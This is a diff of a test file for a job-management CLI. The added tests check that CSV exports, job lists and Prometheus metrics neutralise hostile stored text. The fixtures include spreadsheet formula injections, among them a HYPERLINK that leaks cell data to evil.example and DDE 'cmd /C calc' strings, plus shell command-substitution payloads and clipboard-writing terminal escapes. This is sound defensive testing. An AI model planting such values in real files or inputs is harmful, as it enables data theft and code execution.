@@ -1,8 +1,15 @@
 import assert from 'node:assert/strict'
+import {spawn} from 'node:child_process'
 import {existsSync} from 'node:fs'
 import {cp, readFile, rm, writeFile} from 'node:fs/promises'
 import {join} from 'node:path'
+import {fileURLToPath} from 'node:url'
 import {after, before, describe, test} from 'node:test'
+
+// @ts-expect-error: the parser ships no types
+import parsePrometheusTextFormat from 'parse-prometheus-text-format'
+
+import {freePort, waitFor} from '../../src/testbed/processes.js'
 
 import {insertJob, insertUser} from '../../src/testbed/seed.js'
 import {type RunningSupervisord, startSupervisord} from '../../src/testbed/supervisord.js'
@@ -23,6 +30,28 @@ const PAYLOAD = `inj' "x"; ${SHELL} a\nb\rc ${TERMINAL} end`
 const FN_PAYLOAD = `Inj';$(id>${CANARY})\`id>${CANARY}\`\x1b[2J\x1b]0;t\x07\x9b`
 const RAW_CONTROL = /[\x1b\r\x07\x9b]/
 const ESCAPED = '\\u001b[2J'
+/** OSC 52 (write the clipboard), a screen and scrollback clear, a window title, BEL. */
+const OSC52 = '\x1b]52;c;ZWNobyBwd25lZA==\x07'
+const CLEAR = '\x1b[2J\x1b[3J\x1b[H'
+/**
+ * Spreadsheet formulas at the start of a job's name, note and user (OWASP's =, +, -, @, tab, CR), with
+ * escape sequences (OSC 52, a screen clear, a title, BEL) and a bidi override after them.
+ */
+const FORMULA_JOBS = [
+  {name: `=HYPERLINK("http://evil.example/?leak="&A1,"Click me")${OSC52}`, note: `+SUM(1,2)\x07${CLEAR}`, user: `@SUM(1+1)*cmd|' /C calc'!A0\x1b]0;pwned\x07`},
+  {name: `-2+3+cmd|' /C calc'!A0${CLEAR}`, note: '\t=1+1', user: `+user${OSC52}`},
+  {name: '@evil\u202eexe.txt', note: '\r=2+2\nsecond line', user: '-dash\tuser'},
+]
+/** What the CSV may hold: no control byte at all but newline, CR and tab, and those only inside quoted cells. */
+// eslint-disable-next-line no-control-regex
+const CSV_FORBIDDEN = /[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]/
+/** The cell a spreadsheet gets by default, written out independently of src/: controls as \uXXXX text, a formula behind a quote. */
+function neutralCell(stored: string): string {
+  // eslint-disable-next-line no-control-regex
+  const text = stored.replace(/[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]/g, (c) => '\\u' + c.charCodeAt(0).toString(16).padStart(4, '0'))
+  return /^[=+\-@\t\r]/.test(text) ? `'${text}` : text
+}
+
 /** supervisord's XML-RPC cannot carry C0 controls (atom-ops says so, exit 6): the log holds the rest, and a C1 CSI. */
 const LOG_PAYLOAD = `log' "x"; ${SHELL} \x9b31m end`
 
@@ -31,6 +60,7 @@ let sup: RunningSupervisord
 let runningId: number
 let doneId: number
 let userId: number
+const formulaIds: number[] = []
 const LOG_PROGRAM = 'inj-logger'
 const ESC_LOG_PROGRAM = 'inj-esc-logger'
 const logger = (name: string, text: string) => ({
@@ -52,6 +82,10 @@ before(async () => {
     properties: {[`prop${PAYLOAD}`]: `value ${PAYLOAD}`},
   })
   doneId = await insertJob(bed.database, {name: `arFindingAidJob${PAYLOAD}`, status: 'error', userId, errorNote: `error ${PAYLOAD}`, output: `output ${PAYLOAD}`})
+  for (const f of FORMULA_JOBS) {
+    const user = await insertUser(bed.database, f.user)
+    formulaIds.push(await insertJob(bed.database, {name: f.name, status: 'completed', userId: user, notes: [f.note], createdAt: new Date(Date.now() - 5 * 86_400_000)}))
+  }
   await bed.startWorker([FN_PAYLOAD, 'arFindingAidJob'])
   // Workers whose logs hold the payloads (bytes as given), written by programs run from argument arrays.
   sup = await startSupervisord(join(bed.dir, 'supervisor'), {programs: [logger(LOG_PROGRAM, LOG_PAYLOAD), logger(ESC_LOG_PROGRAM, `log ${PAYLOAD}`)]})
@@ -71,8 +105,11 @@ function assertInert(r: CliResult, what: string, visible: string | null = ESCAPE
   assert.doesNotMatch(r.stderr, /\bat .+:\d+:\d+\)?$/m, `${what}: no stack trace`)
 }
 
-/** RFC 4180 as PHP's fputcsv writes it (fields quoted with ", quotes doubled, newlines inside quotes). */
-function parseCsv(text: string): string[][] {
+/**
+ * RFC 4180 as PHP's fputcsv writes it (fields quoted with ", quotes doubled, newlines inside quotes).
+ * `unquoted` collects what stood outside quotes, where no newline, CR or tab may be.
+ */
+function parseCsv(text: string, unquoted: string[] = []): string[][] {
   const rows: string[][] = []
   let row: string[] = []
   let cell = ''
@@ -86,9 +123,19 @@ function parseCsv(text: string): string[][] {
     } else if (c === '"') quoted = true
     else if (c === ',') row.push(cell), (cell = '')
     else if (c === '\n') row.push(cell), rows.push(row), (row = []), (cell = '')
-    else cell += c
+    else (cell += c), unquoted.push(c)
   }
   if (cell !== '' || row.length) row.push(cell), rows.push(row)
+  return rows
+}
+
+/** A CSV safe for a spreadsheet and a terminal: no control byte but newline/CR/tab inside quotes, no cell a spreadsheet would run. */
+function assertSpreadsheetSafe(text: string, what: string): string[][] {
+  assert.doesNotMatch(text, CSV_FORBIDDEN, `${what}: a raw control byte: ${JSON.stringify(text.match(CSV_FORBIDDEN)?.[0])}`)
+  const outside: string[] = []
+  const rows = parseCsv(text, outside)
+  assert.deepEqual(outside.filter((c) => /[\r\t]/.test(c)), [], `${what}: CR or tab outside a quoted cell`)
+  for (const row of rows) for (const cell of row) assert.doesNotMatch(cell, /^[=+\-@\t\r]/, `${what}: a formula cell ${JSON.stringify(cell)}`)
   return rows
 }
 
@@ -119,6 +166,10 @@ describe('hostile text is shown inert, carried exactly and never run', {concurre
     {name: 'doctor', args: () => ['doctor'], needle: null},
     {name: 'worker logs (supervisord)', args: () => ['worker', 'logs', '--manager', 'supervisor', '--supervisor-config', sup.configFile, '--unit', LOG_PROGRAM, '-n', '20'], needle: LOG_PAYLOAD, visible: '\\u009b31m'},
     {name: 'config show --workers-key', args: () => ['config', 'show', '--workers-key', PAYLOAD]},
+    {name: 'jobs kill --dry-run', args: () => ['jobs', 'kill', String(runningId), '--dry-run']},
+    {name: 'queue watch --count 1 --all', args: () => ['queue', 'watch', '--count', '1', '--all'], needle: FN_PAYLOAD, visible: null},
+    // A Gearman function name of this install with escapes in it, as a Prometheus label value: `\` escaped by the format.
+    {name: 'metrics', args: () => ['metrics'], needle: FN_PAYLOAD, visible: '\\\\u001b[2J'},
   ]
   for (const v of VIEWS) {
     test(`${v.name}: inert in the table`, async () => {
@@ -147,6 +198,13 @@ describe('hostile text is shown inert, carried exactly and never run', {concurre
     assertExact(json, 'config show --json')
   })
 
+  test('doctor --nagios: one line for the monitoring system, inert', async () => {
+    const r = await cli(['doctor', '--nagios'])
+    assert.ok(r.code !== null && r.code <= 3, `exit ${r.code}: ${r.stderr}`)
+    assertInert(r, 'doctor --nagios', null)
+    assert.match(r.stdout, /^ATOM-OPS [A-Z]+ - [^\n]*\n$/)
+  })
+
   test('worker logs of a log with escape sequences: a clear error (exit 6), the message inert', async () => {
     const r = await cli(['worker', 'logs', '--manager', 'supervisor', '--supervisor-config', sup.configFile, '--unit', ESC_LOG_PROGRAM, '-n', '20'])
     assert.equal(r.code, 6, r.stdout + r.stderr)
@@ -154,17 +212,94 @@ describe('hostile text is shown inert, carried exactly and never run', {concurre
     assertInert(r, 'worker logs (escapes)', null)
   })
 
-  test('jobs export: CSV and NDJSON files round-trip the payload', async () => {
+  test('jobs export: the CSV is safe for a spreadsheet and a terminal; --raw and NDJSON carry the payload exactly', async () => {
     const csvFile = join(bed.dir, 'export.csv')
     const csv = await cli(['jobs', 'export', '--output', csvFile])
     assert.equal(csv.code, 0, csv.stderr)
     assertInert(csv, 'jobs export --output', null)
-    const rows = parseCsv(await readFile(csvFile, 'utf8'))
-    assert.ok(rows.some((row) => row.some((cell) => cell.includes(PAYLOAD))), JSON.stringify(rows).slice(0, 2000))
+    const text = await readFile(csvFile, 'utf8')
+    const rows = assertSpreadsheetSafe(text, 'jobs export')
+    for (const f of FORMULA_JOBS) {
+      const want = [neutralCell(f.name), 'Completed', neutralCell(f.note), neutralCell(f.user)]
+      assert.ok(rows.some((r) => r[2] === want[0] && r[3] === want[1] && r[4] === want[2] && r[5] === want[3]), `a row ${JSON.stringify(want)} in ${JSON.stringify(rows).slice(0, 3000)}`)
+    }
+    assert.ok(rows.flat().some((cell) => cell.includes('\\u001b]52;c;')), 'OSC 52 is shown as text')
+    // Newlines and CRs inside a cell are data: the payload's stay as they were, in quoted cells.
+    assert.ok(rows.flat().some((cell) => cell.includes('a\nb\rc')), 'a multi-line cell')
+    assert.ok(!rows.flat().some((cell) => cell.includes(PAYLOAD)), 'the escape sequences are not in the CSV as stored')
+
+    // --raw: every cell exactly as stored (escape sequences, formulas and all), for programs.
+    const rawFile = join(bed.dir, 'export-raw.csv')
+    const raw = await cli(['jobs', 'export', '--raw', '--output', rawFile])
+    assert.equal(raw.code, 0, raw.stderr)
+    const rawRows = parseCsv(await readFile(rawFile, 'utf8'))
+    for (const f of FORMULA_JOBS) {
+      assert.ok(rawRows.some((r) => r[2] === f.name && r[4] === f.note && r[5] === f.user), `the raw row of ${JSON.stringify(f.name)}`)
+    }
+    assert.ok(rawRows.some((row) => row.some((cell) => cell.includes(PAYLOAD))), JSON.stringify(rawRows).slice(0, 2000))
+    assert.equal(rawRows.length, rows.length)
+
     const nd = await cli(['jobs', 'export', '--format', 'ndjson'])
     assert.equal(nd.code, 0, nd.stderr)
     const docs = nd.stdout.trim().split('\n').map((l) => JSON.parse(l))
     assert.ok(strings(docs).some((s) => s.includes(PAYLOAD)))
+  })
+
+  test('jobs list --csv: safe for a spreadsheet and a terminal; with --raw exactly as stored', async () => {
+    const r = await cli(['jobs', 'list', '--csv', '--limit', '0'])
+    assert.equal(r.code, 0, r.stderr)
+    const rows = assertSpreadsheetSafe(r.stdout, 'jobs list --csv')
+    const byId = (all: string[][], id: number) => all.find((row) => row[0] === String(id))
+    FORMULA_JOBS.forEach((f, i) => {
+      const row = byId(rows, formulaIds[i])
+      assert.deepEqual([row?.[1], row?.[3]], [neutralCell(f.name), neutralCell(f.user)], `row of ${formulaIds[i]}`)
+    })
+    assert.equal(byId(rows, runningId)?.[1], neutralCell(`arObjectMoveJob${PAYLOAD}`))
+
+    const raw = await cli(['jobs', 'list', '--csv', '--raw', '--limit', '0'])
+    assert.equal(raw.code, 0, raw.stderr)
+    const rawRows = parseCsv(raw.stdout)
+    FORMULA_JOBS.forEach((f, i) => {
+      const row = byId(rawRows, formulaIds[i])
+      assert.deepEqual([row?.[1], row?.[3]], [f.name, f.user], `raw row of ${formulaIds[i]}`)
+    })
+    assert.equal(byId(rawRows, runningId)?.[1], `arObjectMoveJob${PAYLOAD}`)
+    assert.equal(byId(rawRows, runningId)?.[3], `u${PAYLOAD}`)
+
+    const noCsv = await cli(['jobs', 'list', '--raw'])
+    assert.equal(noCsv.code, 2, 'a table is always inert: --raw needs --csv')
+  })
+
+  test('metrics: valid Prometheus text, the escapes in a function name shown as text (stdout and --listen)', async () => {
+    const label = (text: string) => {
+      const families = parsePrometheusTextFormat(text) as Array<{name: string; metrics: Array<{labels?: Record<string, string>}>}>
+      return families.find((f) => f.name === 'atom_ops_gearman_workers')?.metrics.map((m) => m.labels?.job_class)
+    }
+    // The label value a scraper reads back: every control character as \uXXXX text.
+    // eslint-disable-next-line no-control-regex
+    const shown = FN_PAYLOAD.replace(/[\x00-\x1f\x7f-\x9f]/g, (c) => '\\u' + c.charCodeAt(0).toString(16).padStart(4, '0'))
+    const r = await cli(['metrics'])
+    assert.equal(r.code, 0, r.stderr)
+    assert.doesNotMatch(r.stdout, CSV_FORBIDDEN)
+    assert.ok(label(r.stdout)?.includes(shown), `${JSON.stringify(shown)} in ${JSON.stringify(label(r.stdout))}`)
+
+    const port = await freePort()
+    const child = spawn(process.execPath, [fileURLToPath(new URL('../../bin/run.js', import.meta.url)), 'metrics', '--listen', `127.0.0.1:${port}`, '--timeout', '3'], {
+      env: {PATH: process.env.PATH, HOME: process.env.HOME, ...bed.env()},
+      stdio: ['ignore', 'ignore', 'pipe'],
+    })
+    try {
+      const body = await waitFor('metrics --listen', async () => {
+        const res = await fetch(`http://127.0.0.1:${port}/metrics`, {signal: AbortSignal.timeout(10_000)}).catch(() => undefined)
+        return res?.ok ? res.text() : undefined
+      })
+      assert.doesNotMatch(body, CSV_FORBIDDEN)
+      assert.ok(label(body)?.includes(shown))
+    } finally {
+      const closed = new Promise((resolve) => child.on('close', resolve))
+      child.kill('SIGTERM')
+      await closed
+    }
   })
 
   test('SQL in filters is data: nothing matches, the tables are intact', async () => {
